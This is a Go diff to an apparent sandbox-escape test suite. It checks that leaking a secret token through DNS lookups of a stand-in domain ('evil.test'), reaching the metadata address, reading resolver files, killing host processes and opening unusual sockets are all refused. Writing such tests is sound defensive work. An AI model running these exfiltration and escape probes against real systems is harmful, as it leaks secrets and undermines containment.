@@ -38,7 +38,7 @@ var networkAttacks = []attack{
 			return e.has(w, l.Token+"/")
 		}, ""})
 		o := w.inside("resolve", w.real.Token+".evil.test")
-		w.check("getaddrinfo of a name with the secret", !o.OK && strings.TrimSpace(reads(w.real.W+"/resolv")) == "", "%v", o)
+		w.check("getaddrinfo of a name with the secret", o.made() && !o.OK, "%v", o)
 		o = w.sh("cat /etc/resolv.conf; ls /run/systemd /run 2>&1; getent hosts " + w.real.Token + ".evil.test; echo end")
 		w.check("the resolver's socket and configuration", strings.Contains(o.Text, "end") && !strings.Contains(o.Text, "nameserver"), "%s", oneLine(o.Text, 160))
 	}},
@@ -66,14 +66,21 @@ var networkAttacks = []attack{
 			w.refused(w.sends(what, "tcp", w.ear("tcp", address)))
 		}
 		w.refused(attempt{"sending that connects on the way (TCP fast open)", []string{"tcp-fastopen", otherIP, fmt.Sprint(unlisted), "TOKEN/"}, w.sends("", "", w.ear("tcp", fmt.Sprint(otherIP, ":", unlisted))).effect, "fast open is off here"})
-		l, err := net.Listen("tcp", metadata+":80")
-		if err != nil {
-			o := w.inside("tcp", metadata+":80", "x")
-			w.row(blocked, "the metadata address", fmt.Sprintf("inside %v; this user cannot give the machine that address", o))
+		port := 80
+		if os.Geteuid() != 0 {
+			port = unlisted // 80 is root's
+		}
+		address := fmt.Sprintf("%s:%d", metadata, port)
+		l, err := net.Listen("tcp", address)
+		if errors.Is(err, unix.EADDRNOTAVAIL) {
+			o := w.inside("tcp", address, "x")
+			w.row(blocked, "the metadata address", fmt.Sprintf("inside %v; without root the machine has no such address", o))
 			return
 		}
-		l.Close()
-		w.refused(w.sends("the metadata address", "tcp", w.ear("tcp", metadata+":80")))
+		if err == nil {
+			l.Close()
+		}
+		w.refused(w.sends("the metadata address", "tcp", w.ear("tcp", address)))
 	}},
 	{id: "47", play: hostNames},
 	{id: "48", play: func(w *world) {
@@ -102,10 +109,13 @@ var networkAttacks = []attack{
 		o := w.inside("kill", pid, "9")
 		alive := !w.await(300*time.Millisecond, dead)
 		control := w.outside("kill", pid, "9")
-		w.check("kill a process of the host by its id", alive && w.await(2*time.Second, dead), "%v, it lived on; control: %v", o, control)
+		w.check("kill a process of the host by its id", alive && o.made() && w.await(2*time.Second, dead), "%v, it lived on; control: %v", o, control)
 	}},
 	{id: "51", play: func(w *world) {
-		root := "this user, or this kernel, has no such socket anyway"
+		none := "this kernel has no such socket"
+		if os.Geteuid() != 0 {
+			none = "this kernel has no such socket, or only root may have one"
+		}
 		for _, s := range []struct {
 			what                   string
 			domain, kind, protocol int
@@ -114,7 +124,7 @@ var networkAttacks = []attack{
 			{"netlink route", unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE}, {"netlink audit", unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_AUDIT}, {"MPTCP", unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_MPTCP},
 			{"SCTP", unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP}, {"AF_XDP", unix.AF_XDP, unix.SOCK_RAW, 0}, {"Bluetooth", unix.AF_BLUETOOTH, unix.SOCK_RAW, 1}, {"AF_UNIX", unix.AF_UNIX, unix.SOCK_STREAM, 0},
 			{"UDP", unix.AF_INET, unix.SOCK_DGRAM, 0}, {"AF_TIPC", unix.AF_TIPC, unix.SOCK_RDM, 0}, {"AF_KCM", unix.AF_KCM, unix.SOCK_DGRAM, 0}, {"AF_RDS", unix.AF_RDS, unix.SOCK_SEQPACKET, 0}} {
-			w.refused(attempt{"a socket of " + s.what, []string{"socket", strconv.Itoa(s.domain), strconv.Itoa(s.kind), strconv.Itoa(s.protocol)}, reached, root})
+			w.refused(attempt{"a socket of " + s.what, []string{"socket", strconv.Itoa(s.domain), strconv.Itoa(s.kind), strconv.Itoa(s.protocol)}, reached, none})
 		}
 	}},
 	{id: "52", set: settings{network: fmt.Sprintf("{access: local, local_endpoints: [%d]}", listed)}, play: exhaustion},
@@ -280,12 +290,12 @@ func ownNetwork(ctx context.Context) error {
 	return cmd.Run()
 }
 
-// furnish gives the own network namespace its loopback.
+// furnish gives the own network namespace its loopback, and everybody in it sockets for ping.
 func furnish() error {
 	for _, args := range [][]string{{"link", "set", "lo", "up"}, {"addr", "add", metadata + "/32", "dev", "lo"}} {
 		if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
 			return errors.Join(err, errors.New(string(out)))
 		}
 	}
-	return nil
+	return os.WriteFile("/proc/sys/net/ipv4/ping_group_range", []byte("0 2147483647"), 0)
 }
